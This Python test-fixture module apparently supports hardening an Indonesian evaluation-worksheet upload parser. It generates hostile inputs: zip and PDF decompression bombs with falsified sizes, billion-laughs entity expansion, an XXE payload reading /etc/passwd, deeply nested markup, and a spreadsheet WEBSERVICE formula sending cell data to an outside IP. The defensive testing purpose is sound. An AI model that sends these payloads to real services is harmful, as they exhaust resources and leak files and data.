"""Files that must cost nothing but a message. Each is made small; what it would unpack to is in its name."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

XLSX = "xl/workbook.xml"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HEADER = ("Kode", "Pertanyaan", "Jawaban", "Bukti Dukung")
ROW = ("A.1.1.A", "Apakah unit kerja telah membentuk tim?", "YA", "SK Tim Kerja")
Parts = Mapping[str, bytes | str]


def archive(parts: Parts) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name, body in parts.items():
            target.writestr(name, body)
    return stream.getvalue()


def xlsx(rows: str = "", **more: bytes | str) -> bytes:
    """A workbook of one sheet; `more` adds parts, with / written as two underscores."""
    sheet = f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": "<Types/>",
        "xl/workbook.xml": workbook("LKE"),
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    parts.update({_part(name): body for name, body in more.items()})
    return archive(parts)


def workbook(*titles: str) -> str:
    """The part that names the sheets of a workbook."""
    sheets = "".join(f'<sheet name="{title}" sheetId="{n}" r:id="rId{n}"/>' for n, title in enumerate(titles, 1))
    return f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>{sheets}</sheets></workbook>'


def _part(name: str) -> str:
    """xl__styles_xml -> xl/styles.xml"""
    return name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin")


def row(number: int, texts: tuple[str, ...], extra: str = "") -> str:
    cells = "".join(
        f'<c r="{chr(65 + column)}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for column, text in enumerate(texts)
    )
    return f'<row r="{number}">{cells}{extra}</row>'


LKE = row(1, HEADER) + row(2, ROW)


def docx(body: str, **more: bytes | str) -> bytes:
    document = f'<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    parts: dict[str, bytes | str] = {"[Content_Types].xml": "<Types/>", "word/document.xml": document}
    parts.update({_part(name): text for name, text in more.items()})
    return archive(parts)


def flate(size: int) -> bytes:
    """A deflate stream of `size` zeros, made from one block said over and over."""
    block = 1 << 24
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(block)) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * (size // block) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def bomb(name: str, others: bytes, size: int, *, declared: int) -> bytes:
    """The archive `others` with an entry of `size` zeros put in that says it has `declared`."""
    packed = flate(size)
    parts = {}
    with zipfile.ZipFile(io.BytesIO(others)) as old:
        parts = {entry: old.read(entry) for entry in old.namelist() if entry != name}
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        for entry, body in parts.items():
            target.writestr(entry, body)
        target.writestr(name, packed)  # stored, then its records are made to say "deflated"
    data = bytearray(stream.getvalue())
    for magic, method, sizes, name_at in ((b"PK\x03\x04", 8, 18, 30), (b"PK\x01\x02", 10, 20, 46)):
        at = data.find(magic)
        while at >= 0:
            if data[at + name_at : at + name_at + len(name)] == name.encode():
                struct.pack_into("<H", data, at + method, 8)
                struct.pack_into("<II", data, at + sizes, len(packed), declared)
            at = data.find(magic, at + 4)
    return bytes(data)


def pdf(objects: Mapping[int, bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF from its objects; object 1 is the catalogue."""
    data = b"%PDF-1.4\n"
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(data)
    last = max(objects)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        data += b"%010d 00000 n \n" % places.get(number, 0)
    return data + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (last + 1, trailer, start)


_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%s>>"


def pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    objects = {1: _CATALOG, 2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids)}
    objects.update({number + 3: _PAGE % b"" for number in range(count)})
    return pdf(objects)


def pdf_bomb(size: int) -> bytes:
    stream = b"\x78\xda" + flate(size) + b"\x00\x00\x00\x00"
    return pdf(
        {
            1: _CATALOG,
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: _PAGE % b"/Contents 4 0 R",
            4: b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(stream), stream),
        }
    )


_LAUGHS = "<!DOCTYPE x [<!ENTITY a '" + "ha" * 50 + "'>" + "".join(
    f"<!ENTITY {chr(98 + i)} '{f'&{chr(97 + i)};' * 20}'>" for i in range(8)
) + "]>"  # fmt: skip
_XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_TR = "<tr>" + "".join(f"<td>{text}</td>" for text in ROW) + "</tr>"
_TH = "<tr>" + "".join(f"<th>{text}</th>" for text in HEADER) + "</tr>"
_ODS_HEAD = (
    '<office:document-content xmlns:office="urn:o" xmlns:table="urn:t" xmlns:text="urn:x"><office:body>'
    '<office:spreadsheet><table:table table:name="LKE">'
)
_ODS_TAIL = "</table:table></office:spreadsheet></office:body></office:document-content>"
_ODS = "application/vnd.oasis.opendocument.spreadsheet"


def _ole(name: str) -> bytes:
    return _OLE + bytes(504) + name.encode("utf-16-le") + bytes(600)


def _entities(part: str, text: str) -> bytes:
    return archive({"[Content_Types].xml": "<Types/>", part: text})


def _locked_zip() -> bytes:
    data = bytearray(xlsx(LKE))
    for magic, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(magic)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(magic, at + 4)
    return bytes(data)


# name -> (bytes, a part of the message). Formats are told by content, so no file has an extension.
BAD: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "kosong": (lambda: b"", "berkas kosong"),
    "hanya_spasi": (lambda: b" \r\n\t\n" * 50, "berkas kosong"),
    "byte_nol": (lambda: bytes(5000), "bukan teks"),
    "bukan_lke": (lambda: b"Daftar belanja\ngula\nkopi\n", "tidak ditemukan satu pun indikator"),
    "xlsx_terpotong": (lambda: xlsx(LKE)[:-300], "rusak atau terpotong"),
    "docx_terpotong": (lambda: docx("<w:p/>")[:-60], "rusak atau terpotong"),
    "xlsx_isi_rusak": (lambda: xlsx(LKE).replace(b"PK\x03\x04", b"PK\x03\x05", 2), "rusak"),
    "pdf_terpotong": (lambda: pages(3)[:60], "rusak atau terpotong"),
    "bom_zip_64_mb": (
        lambda: bomb("xl/worksheets/sheet1.xml", xlsx(), 1 << 26, declared=1 << 26),
        "zip_ratio",
    ),
    "bom_zip_1_gb": (
        lambda: bomb("xl/worksheets/sheet1.xml", xlsx(), 1 << 30, declared=1 << 30),
        "zip_ratio",
    ),
    "bom_zip_berbohong": (
        lambda: bomb("xl/worksheets/sheet1.xml", xlsx(), 1 << 28, declared=9000),
        "sheet1.xml",
    ),
    "bom_docx_berbohong": (
        lambda: bomb("word/document.xml", docx(""), 1 << 28, declared=9000),
        "document.xml",
    ),
    "banyak_entri": (
        lambda: archive({"xl/workbook.xml": "", **{f"x{i}": "" for i in range(6000)}}),
        "zip_entries",
    ),
    "seribu_tawa_xlsx": (lambda: _entities("xl/workbook.xml", _LAUGHS + "<x>&i;</x>"), "entitas"),
    "seribu_tawa_docx": (lambda: _entities("word/document.xml", _LAUGHS + "<x>&i;</x>"), "entitas"),
    "entitas_luar": (lambda: _entities("word/document.xml", _XXE + "<x>&a;</x>"), "entitas"),
    "entitas_utf16": (
        lambda: archive(
            {"word/document.xml": ('<?xml version="1.0" encoding="utf-16"?>' + _XXE + "<x>&a;</x>").encode("utf-16")}
        ),
        "entitas",
    ),
    "xml_dalam": (lambda: docx("<w:a>" * 5000 + "</w:a>" * 5000), "xml_depth"),
    "xml_dalam_230": (lambda: docx("<w:a>" * 230 + "</w:a>" * 230), "xml_depth"),
    "xml_rusak": (lambda: docx("<w:p>"), "bukan XML"),
    "sandi_ooxml": (lambda: _ole("EncryptedPackage"), "dikunci dengan sandi"),
    "xls_lama": (lambda: _ole("Workbook"), "berkas XLS rusak"),
    "doc_lama": (lambda: _ole("WordDocument"), "simpan sebagai DOCX"),
    "ole_lain": (lambda: _ole("Lain"), "Office lama"),
    "zip_bersandi": (_locked_zip, "sandi"),
    "zip_hilang_tengah": (lambda: (data := archive({"xl/workbook.xml": "<workbook/>"}))[:4] + data[24:], "rusak"),
    "xlsb": (lambda: archive({"xl/workbook.bin": b"x"}), "XLSB"),
    "odt": (lambda: archive({"mimetype": "application/vnd.oasis.opendocument.text"}), "ODT"),
    "zip_biasa": (lambda: archive({"lke.xlsx": xlsx(LKE)}), "arsip ZIP"),
    "gambar_png": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "gambar PNG"),
    "gambar_jpeg": (lambda: b"\xff\xd8\xff\xe0" + bytes(100), "gambar JPEG"),
    "rtf": (lambda: b"{\\rtf1\\ansi LKE}", "RTF"),
    "surel": (
        lambda: b"Subject: LKE\r\nMIME-Version: 1.0\r\nContent-Transfer-Encoding: base64\r\n\r\nTEtF",
        "isinya surel",
    ),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(100), "GZIP"),
    "program": (lambda: b"MZ" + bytes(1000), "program"),
    "xlsx_tanpa_lembar": (lambda: archive({"xl/workbook.xml": "<workbook/>"}), "tidak ada teks"),
    "xlsx_bukan_lke": (lambda: xlsx(row(1, ("Nama", "Harga")) + row(2, ("gula", "9"))), "tidak ditemukan"),
    "sel_10_mb": (lambda: xlsx(LKE + row(3, ("a", "".join(map(str, range(1_500_000)))))), "cell_chars"),
    "banyak_sel": (
        lambda: xlsx("".join(f'<row r="{i}">' + '<c t="n"><v>1</v></c>' * 200 + "</row>" for i in range(1, 600))),
        "cells",
    ),
    "alamat_palsu": (lambda: xlsx('<row r="1"><c r="ZZZZ9" t="n"><v>1</v></c></row>'), "alamat sel"),
    "pdf_10000_halaman": (lambda: pages(10_000), "pages"),
    "pdf_pohon_berputar": (
        lambda: pdf({1: _CATALOG, 2: b"<</Type/Pages/Count 5/Kids[2 0 R 2 0 R]>>"}),
        "PDF",
    ),
    "pdf_hitungan_palsu": (
        lambda: pdf({1: _CATALOG, 2: b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>", 3: _PAGE % b""}),
        "PDF",
    ),
    "pdf_tanpa_teks": (lambda: pages(2), "hasil pindai"),
    "pdf_bom_512_mb": (lambda: pdf_bomb(1 << 29), "memory_bytes"),
    "pdf_bersandi": (
        lambda: pdf(
            {
                1: _CATALOG,
                2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
                3: _PAGE % b"",
                4: b"<</Filter/Standard/V 1/R 2/O<" + b"41" * 32 + b">/U<" + b"42" * 32 + b">/P -4>>",
            },
            trailer=b"/Encrypt 4 0 R/ID[<00><00>]",
        ),
        "sandi",
    ),
    "html_bukan_lke": (lambda: b"<html><body><p>Halo</p></body></html>", "tidak ditemukan"),
    "html_banyak_sel": (
        lambda: f"<table>{_TH}".encode() + b"<tr>" + b"<td>a" * 120_000 + b"</table>",
        "cells",
    ),
    "html_sel_besar": (lambda: f"<table>{_TH}<tr><td>{'a' * 300_000}</table>".encode(), "cell_chars"),
    "html_dalam": (lambda: ("<div>" * 3000 + f"<table>{_TH}{_TR}</table>").encode(), "xml_depth"),
    "csv_sel_besar": (lambda: (",".join(HEADER) + "\n" + "a" * 300_000 + ",b\n").encode(), "cell_chars"),
    "ods_baris_berulang": (
        lambda: archive(
            {
                "mimetype": _ODS,
                "content.xml": _ODS_HEAD + '<table:table-row table:number-rows-repeated="1048576">'
                "<table:table-cell><text:p>a</text:p></table:table-cell></table:table-row>" + _ODS_TAIL,
            }
        ),
        "cells",
    ),
    "ods_sel_berulang": (
        lambda: archive(
            {
                "mimetype": _ODS,
                "content.xml": _ODS_HEAD + "<table:table-row><table:table-cell "
                'table:number-columns-repeated="999999999"><text:p>a</text:p></table:table-cell></table:table-row>'
                + _ODS_TAIL,
            }
        ),
        "cells",
    ),
    "ods_tanpa_isi": (lambda: archive({"mimetype": _ODS}), "content.xml"),
}

_TABLE = "".join(
    "<w:tr>" + "".join(f"<w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>" for text in texts) + "</w:tr>"
    for texts in (HEADER, ROW)
)
_STYLES = (
    f'<w:styles xmlns:w="{_WORD}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
    '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
)
_WEB = '<c r="C3"><f>WEBSERVICE("http://192.0.2.1/?"&amp;B2)</f></c>'

# name -> (bytes, a part of a notice or ""). What looks bad and is read all the same: one row, A.1.1.A.
ODD: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "nomor_baris_palsu": (lambda: xlsx(LKE.replace('<row r="1"', '<row r="x"')), ""),
    "makro": (lambda: xlsx(LKE, xl__vbaProject_bin=b"Sub Auto_Open()"), "makro"),
    "objek_sisipan": (lambda: xlsx(LKE, xl__embeddings__a=b"MZ"), "objek yang disisipkan"),
    "tautan_buku_lain": (lambda: xlsx(LKE, xl__externalLinks__a="<x/>"), "buku kerja lain"),
    "rumus_ke_web": (lambda: xlsx(row(1, HEADER) + row(2, ROW) + f'<row r="3">{_WEB}</row>'), "C3"),
    "sel_di_ujung_dunia": (lambda: xlsx(LKE + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), ""),
    "gaya_berputar": (lambda: docx(f"<w:tbl>{_TABLE}</w:tbl>", word__styles_xml=_STYLES), ""),
    "html_dalam_150": (lambda: ("<div>" * 150 + f"<table>{_TH}{_TR}</table>").encode(), ""),
    "html_rentang_besar": (
        lambda: f"<table>{_TH}{_TR}<tr><td colspan=999999999 rowspan=99999>a".encode(),
        "",
    ),
    "html_skrip": (lambda: f"<script>while(1);</script><table>{_TH}{_TR}</table>".encode(), "skrip"),
    "xls_yang_html": (lambda: f"<html><table>{_TH}{_TR}</table></html>".encode("utf-16"), ""),
    "teks_dinamis": (lambda: xlsx(LKE, xl__connections_xml="<x/>"), "sambungan"),
}
